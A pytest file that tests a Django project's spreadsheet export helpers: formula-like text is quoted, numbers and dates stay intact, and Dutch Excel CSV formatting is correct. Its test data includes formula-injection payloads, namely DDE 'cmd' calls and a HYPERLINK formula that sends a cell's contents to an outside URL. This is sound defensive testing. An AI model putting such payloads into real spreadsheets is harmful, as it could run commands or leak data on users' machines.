"""Cells for spreadsheet files: text that would be read as a formula is quoted, numbers stay numbers."""

from datetime import date
from decimal import Decimal

import pytest

from accounts.spreadsheets import safe_cell, safe_row, unquoted_cell

FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"Klik")',
    "+31 30 123 4567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_read_as_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Het Baken", "Utrecht = Domstad", "", "'al met een aanhalingsteken", "2023-05-30"])
def test_other_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-12, Decimal("-70000.50"), -0.5, 7, Decimal("0"), date(2023, 5, 30), None, True])
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-70000.50", "-12", "70000.00"])
def test_an_amount_written_as_text_stays_a_number(text):
    assert safe_cell(text) == text


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1+1", -3, "Kamers"]) == ["'=1+1", -3, "Kamers"]


@pytest.mark.parametrize("text", [*FORMULAS, "Het Baken", "'al met een aanhalingsteken", "-12"])
def test_a_quoted_cell_reads_back_as_it_was_written(text):
    assert unquoted_cell(safe_cell(text)) == text


class TestDutchExcelCsv:
    def test_semicolons_decimal_comma_dates_and_a_byte_order_mark(self):
        from datetime import UTC, date, datetime
        from decimal import Decimal

        from django.utils import translation

        from accounts.spreadsheets import csv_bytes

        with translation.override("nl"):
            content = csv_bytes(
                ["Gemeente", "Bedrag", "Ontvangen", "Besluit", "Toegekend"],
                [
                    [
                        "Súdwest-Fryslân",
                        Decimal("1234567.50"),
                        datetime(2026, 3, 1, 8, 0, tzinfo=UTC),
                        date(2026, 7, 7),
                        True,
                    ]
                ],
            )
        text = content.decode("utf-8")
        assert text.startswith("\ufeffGemeente;Bedrag;Ontvangen;Besluit;Toegekend\r\n")
        assert text.endswith("Súdwest-Fryslân;1234567,50;01-03-2026 09:00:00;07-07-2026;ja\r\n")

    def test_text_that_looks_like_a_formula_is_quoted_and_a_semicolon_in_text_is_enclosed(self):
        from accounts.spreadsheets import csv_bytes

        text = csv_bytes(["Project"], [["=HYPERLINK(1)"], ["Woningen; flex"], [-12]]).decode("utf-8")
        assert text.splitlines()[1:] == ["'=HYPERLINK(1)", '"Woningen; flex"', "-12"]

    def test_the_file_name_says_what_and_when(self):
        from datetime import date

        from accounts.spreadsheets import export_filename

        assert (
            export_filename("Rangschikking", "rha-2023", on=date(2023, 7, 7)) == "rangschikking-rha-2023-20230707.csv"
        )
        assert export_filename("Totalen per gemeente", on=date(2026, 12, 2), extension="xlsx") == (
            "totalen-per-gemeente-20261202.xlsx"
        )
